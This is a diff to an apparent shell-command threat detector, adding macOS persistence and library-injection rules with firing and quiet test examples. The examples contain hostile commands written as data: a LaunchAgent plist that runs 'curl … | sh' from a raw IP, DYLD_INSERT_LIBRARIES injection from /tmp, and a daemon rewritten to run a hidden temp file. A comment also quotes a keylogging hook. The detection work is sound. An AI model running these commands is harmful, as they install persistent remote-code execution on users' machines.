@@ -147,7 +147,7 @@ export function threat(group: PersistedGroup, input: AnalysisInput): { level: 0 
     if (c.name === 'read' && c.argv.some((w) => /^-[a-zA-Z]*s/.test(w))) return { level: 2, evidence: line };
     // a login hook that copies what it sees into a hidden temp file (`preexec() { echo "$1" >> /tmp/.k; }`)
     if (c.redirects.some((r) => r.op.includes('>') && !r.dynamic && isStagingPath(r.target))) return { level: 2, evidence: line };
-    const preload = [...assignments(c).filter((a) => a.name === 'LD_PRELOAD' || a.name === 'LD_LIBRARY_PATH' && isStagingPath(a.value)), ...c.argv.filter((w) => w.startsWith('LD_PRELOAD=')).map((w) => ({ name: 'LD_PRELOAD', value: w.slice(11) }))];
+    const preload = [...assignments(c).filter((a) => a.name === 'LD_PRELOAD' || a.name === 'DYLD_INSERT_LIBRARIES' || a.name === 'LD_LIBRARY_PATH' && isStagingPath(a.value)), ...c.argv.filter((w) => w.startsWith('LD_PRELOAD=')).map((w) => ({ name: 'LD_PRELOAD', value: w.slice(11) }))];
     if (preload.length) return { level: 2, evidence: `${preload[0]!.name}=${preload[0]!.value}` };
     for (const a of assignments(c)) {
       if (a.name === 'PROMPT_COMMAND') { if (hostileText(a.value)) return { level: 2, evidence: `PROMPT_COMMAND=${a.value}` }; suspicious ??= `PROMPT_COMMAND=${a.value}`; }
@@ -310,11 +310,15 @@ export const RULES: readonly Rule[] = [
       for (const w of writesKind(i, ['launch-item'])) if (hostileText(w.text) || (w.cmd && ['cp', 'mv', 'install'].includes(w.cmd.name) && isStagingPath(w.text))) out.push(`${w.path} ← ${w.text.slice(0, 120)}`);
       for (const c of i.view?.commands ?? []) {
         if (c.name === 'defaults' && c.argv[1] === 'write' && classifyPath(c.argv[2] ?? '')?.kind === 'launch-item' && c.argv.slice(3).some((w) => w.includes('/') && isStagingPath(w) || !!hostileText(w))) out.push(c.argv.join(' '));
+        // PlistBuddy edits a daemon's program in place: `-c "Set :ProgramArguments:0 /tmp/.p" …/LaunchDaemons/x.plist`
+        if (c.name === 'plistbuddy' && classifyPath(c.argv[c.argv.length - 1] ?? '')?.kind === 'launch-item' && c.argv.some((w) => /Program/.test(w) && w.split(/\s+/).some((x) => x.includes('/') && isStagingPath(x) || !!hostileText(x)))) out.push(c.argv.join(' '));
+        // every app the user's launchd starts from now on loads the library
+        if (c.name === 'launchctl' && c.argv[1] === 'setenv' && (c.argv[2] === 'DYLD_INSERT_LIBRARIES' || c.argv[2] === 'LD_PRELOAD')) out.push(c.argv.join(' '));
         if (c.name === 'launchctl' && hasArg(c, 'load', 'bootstrap', 'submit') && operands(c).some((w) => w.includes('/') && isStagingPath(w))) out.push(c.argv.join(' '));
       }
       return out;
     },
-    examples: { fire: ['printf \'<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s http://45.33.12.7/a | sh</string></array></dict></plist>\' > ~/Library/LaunchAgents/com.apple.update.plist', 'defaults write ~/Library/LaunchAgents/com.google.keystone.helper.plist ProgramArguments -array "$HOME/Library/Application Support/.agent"', 'sudo cp /tmp/com.apple.sysmond.plist /Library/LaunchDaemons/'], quiet: ['launchctl list', 'cp com.me.dev.plist ~/Library/LaunchAgents/', 'defaults read ~/Library/LaunchAgents/com.x.plist'] },
+    examples: { fire: ['launchctl setenv DYLD_INSERT_LIBRARIES /tmp/inject.dylib', 'sudo /usr/libexec/PlistBuddy -c "Set :ProgramArguments:0 /tmp/.p" /Library/LaunchDaemons/com.x.plist', 'printf \'<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s http://45.33.12.7/a | sh</string></array></dict></plist>\' > ~/Library/LaunchAgents/com.apple.update.plist', 'defaults write ~/Library/LaunchAgents/com.google.keystone.helper.plist ProgramArguments -array "$HOME/Library/Application Support/.agent"', 'sudo cp /tmp/com.apple.sysmond.plist /Library/LaunchDaemons/'], quiet: ['launchctl setenv JAVA_HOME /Library/Java/Home', '/usr/libexec/PlistBuddy -c "Print :ProgramArguments" ~/Library/LaunchAgents/com.x.plist', 'launchctl list', 'cp com.me.dev.plist ~/Library/LaunchAgents/', 'defaults read ~/Library/LaunchAgents/com.x.plist'] },
   },
   {
     id: 'PX-PERSIST-008', name: 'loads-launch-item', score: 55, tactic: 'persistence', technique: 'T1543.001',
